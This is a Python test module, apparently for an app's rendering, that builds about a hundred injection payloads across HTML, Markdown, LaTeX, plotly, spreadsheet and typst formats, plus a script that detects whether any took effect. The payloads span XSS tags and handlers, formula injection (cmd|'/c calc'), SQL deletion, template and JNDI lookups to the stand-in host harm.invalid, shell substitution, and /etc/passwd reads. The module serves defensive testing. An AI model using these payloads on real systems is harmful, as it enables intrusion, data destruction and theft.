"""Some hundred texts that mean harm, made from parts: tags by attributes by disguises, and what other languages obey.

A payload that is taken for more than text shows: `window.harmed` is set, a host below `harm.invalid` is asked, an
element has the attribute `data-harm` or an address of that host, or the word `harmword` stands alone in an element
that only markup makes. `TRACES` looks for all of these in a page.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from urllib.parse import quote

_TAGS = (
    "<script data-harm>{js}</script>",
    "<img data-harm src=x onerror={js}>",
    "<svg data-harm onload={js}><animate onbegin={js} attributeName=x dur=1s></svg>",
    '<iframe data-harm srcdoc="<script>parent.{js}</script>"></iframe>',
    "<iframe data-harm src=javascript:parent.{js}></iframe>",
    "<object data-harm data=javascript:{js}></object>",
    "<embed data-harm src=//harm.invalid/{n}.swf>",
    "<video data-harm><source onerror={js}></video>",
    "<audio data-harm src=x onerror={js}>",
    "<body data-harm onpageshow={js}>",
    "<input data-harm autofocus onfocus={js}>",
    "<details data-harm open ontoggle={js}><summary>harmword</summary></details>",
    "<marquee data-harm onstart={js}>harmword</marquee>",
    "<style data-harm>@import '//harm.invalid/{n}.css'; *{{background:url(//harm.invalid/{n})}}</style>",
    "<link data-harm rel=stylesheet href=//harm.invalid/{n}.css>",
    "<meta data-harm http-equiv=refresh content='0;url=//harm.invalid/{n}'>",
    "<base data-harm href=//harm.invalid/{n}/>",
    "<form data-harm action=//harm.invalid/{n}><button autofocus onfocus={js}>harmword</button></form>",
    '<a data-harm href="javascript:{js}" onmouseover={js}>harmword</a>',
    "<math><maction data-harm actiontype=statusline xlink:href=javascript:{js}>harmword</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img data-harm title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<b data-harm style='animation:x' onanimationstart={js}>harmword</b>",
)
_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<s", "<S").replace("<i", "<I").replace(" on", " oN"),
    lambda text: f'"></title></textarea></style></script>{text}',
    lambda text: f"' autofocus onfocus=window.harmed=1 data-harm x='{text}",
    lambda text: f"--></p></div></svg>{text}<!--",
    lambda text: html.escape(text),
    lambda text: html.escape(html.escape(text)),
    quote,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace(" ", "/").replace("=", "\t="),
    lambda text: f"[{text}]({text})",
)
_OTHERS = (
    # Markdown
    "[harmword](javascript:{js})",
    "[harmword](JaVaScRiPt:{js})",
    "[harmword](java&#x73;cript:{js})",
    "[harmword](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[harmword](https://harm.invalid/{n})",
    "![harmword](https://harm.invalid/{n}.png)",
    "[![harmword](https://harm.invalid/{n}.png)](https://harm.invalid/{n})",
    "<https://harm.invalid/{n}>",
    "https://harm.invalid/{n}",
    "www.harm.invalid/{n}",
    "mail@harm.invalid",
    "[harmword][{n}] [{n}]: https://harm.invalid/{n}",
    "**harmword** __harmword__ *harmword* _harmword_ ~~harmword~~ `harmword`",
    "# harmword",
    "> harmword",
    "- harmword",
    "1. harmword",
    "``` harmword ```",
    "| harmword | x | |---|---| | harmword | y |",
    "[^1] harmword [^1]: harmword",
    "\\*\\*harmword\\*\\* \\<img data-harm src=x onerror={js}>",
    "&lt;b&gt;harmword&lt;/b&gt; &#60;img data-harm src=x onerror={js}&#62;",
    # Streamlit
    *(f":{name}[harmword]" for name in "red blue-background green-badge rainbow small shimmer grey".split()),
    ":material/skull: :skull: :streamlit: <- -> -- >=",
    "$harmword$ $$\\frac{{1}}{{2}}$$ \\(harmword\\) \\[harmword\\]",
    "$\\href{{javascript:{js}}}{{harmword}}$ $\\htmlData{{harm=1}}{{harmword}}$",
    "$\\includegraphics{{https://harm.invalid/{n}.png}}$",
    # plotly
    '<a href="https://harm.invalid/{n}">harmword</a><b>harmword</b><br><sup>harmword</sup>',
    "%{{customdata[0]}} %{{x}} %{{text}} <extra>harmword</extra>",
    "<span style='font-weight:bold;font-size:90px'>harmword</span>",
    # spreadsheets
    '=HYPERLINK("https://harm.invalid/{n}","harmword")',
    "=cmd|'/c calc'!A{n}",
    "+SUM(1;{n})*cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A{n}",
    "@SUM(1+{n})*cmd|'/c calc'!A1",
    '\t=IMPORTXML("https://harm.invalid/{n}","//a")',
    '"=WEBSERVICE(""https://harm.invalid/{n}"")"',
    "＝1+{n}",
    # typst
    '#link("https://harm.invalid/{n}")[harmword] #image("/etc/hostname") *harmword* _harmword_',
    '#read("/etc/passwd") #eval("1") #{{ panic("{n}") }} #import "@preview/x:0.1.0"',
    # scripts, SQL, templates, shells
    "</script><script data-harm>{js}</script>",
    "\"+({js})+\" '+({js})+' ${{{js}}} `;{js};//",
    "'); DELETE FROM articles; -- {n}",
    "' OR 1=1; ATTACH 'harm{n}.db'; --",
    "{{{{ 7*7 }}}} {{% include '/etc/passwd' %}} <%= {n} %> ${{jndi:ldap://harm.invalid/{n}}}",
    "$(touch harm{n}) `touch harm{n}` ; touch harm{n} | touch harm{n}",
    "../../../../etc/passwd%00.md {n}",
    "\u202eharmword\u202c \u2066harmword\u2069 {n}",
    "&#x202e; &NewLine; &colon; &lpar; &Tab; {n}",
)

TRACES = """() => {
  const marked = '[data-harm], [href*="harm.invalid" i], [src*="harm.invalid" i], [href^="javascript:" i], ' +
    '[src^="javascript:" i], [href^="data:text" i], [onerror], [onload], [onfocus], .katex, ' +
    '[data-testid^="stMarkdownColored"], [data-testid="stMarkdownBadge"], [data-testid="stMarkdownShimmer"]'
  const found = [...document.querySelectorAll(marked)]
  const made = 'strong, b, em, i, del, s, code, kbd, sup, sub, small, blockquote, td, th, a, summary, [style*="bold"]'
  found.push(...[...document.querySelectorAll(made)].filter(one => one.textContent.trim() === 'harmword'))
  const icons = [...document.querySelectorAll('[data-testid="stIconMaterial"]')]
  found.push(...icons.filter(one => /skull/.test(one.textContent)))
  const traces = found.map(one => one.outerHTML.slice(0, 300))
  if (window.harmed !== undefined) traces.push(`payload ${window.harmed} ran`)
  return traces
}"""


def payloads() -> list[str]:
    """All payloads, each with a number of its own."""
    made = [(template, disguise) for template in _TAGS for disguise in _DISGUISES]
    made += [(template, str) for template in _OTHERS]
    return [disguise(template.format(js=f"window.harmed={n}", n=n)) for n, (template, disguise) in enumerate(made, 1)]
